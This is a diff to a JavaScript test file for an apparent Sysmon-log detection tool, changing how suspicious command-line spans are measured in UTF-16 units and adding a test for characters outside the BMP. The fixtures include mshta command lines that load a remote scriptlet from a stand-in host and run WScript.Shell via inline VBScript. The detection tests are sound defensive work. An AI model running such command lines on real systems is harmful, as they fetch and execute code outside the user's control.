@@ -129,9 +129,9 @@ async function openChain(page, id) {
   await page.waitForSelector(`#view .chain-view[data-chain-id="${id}"]`);
 }
 
-test("command-line spans (code points) become merged UTF-16 highlight ranges; none without spans", () => {
+test("command-line spans (UTF-16 code units, as the core gives them) become merged highlight ranges; none without spans", () => {
   const cmd = "mshta \u{1F600} javascript:GetObject('script:https://x/a.sct')";
-  const at = (needle) => [...cmd.slice(0, cmd.indexOf(needle))].length; // in code points
+  const at = (needle) => cmd.indexOf(needle); // UTF-16 code units
   const reasons = [
     { id: "cmdline_inline_script", spans: [[at("javascript:"), at("javascript:") + 11]] },
     { id: "cmdline_script_object", spans: [[at("GetObject"), at("GetObject") + 9], [at("javascript:") + 5, at("javascript:") + 14]] },
@@ -142,6 +142,20 @@ test("command-line spans (code points) become merged UTF-16 highlight ranges; no
   assert.deepEqual(ranges.map((r) => cmd.slice(r.start, r.end)), ["javascript:GetObject"]);
   assert.deepEqual(ranges[0].ids, ["cmdline_inline_script", "cmdline_script_object"]);
   assert.deepEqual(highlightRanges(cmd, [{ id: "x" }]), []);
+});
+
+test("the core's spans slice the command line at what matched, past characters outside the BMP", () => {
+  const cmd = "mshta \u{1F600} vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")";
+  const line = JSON.stringify({
+    EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: "PC1", UtcTime: "2024-05-01 10:00:00.000",
+    ProcessGuid: "{11111111-0000-0000-0000-000000000001}", ProcessId: "100", Image: "C:\\Windows\\System32\\mshta.exe",
+    CommandLine: cmd, ParentImage: "C:\\Windows\\System32\\cmd.exe",
+  });
+  const chain = analyze(line).chains[0];
+  const inline = chain.reasons.find((r) => r.id === "cmdline_inline_script");
+  assert.ok(inline?.spans?.length, JSON.stringify(chain.reasons));
+  const ranges = highlightRanges(chain.root.command_line, [inline]);
+  assert.equal(chain.root.command_line.slice(ranges[0].start, ranges[0].end).toLowerCase(), "vbscript:");
 });
 
 test("a JSON array streams as one element per line, however it is cut", () => {
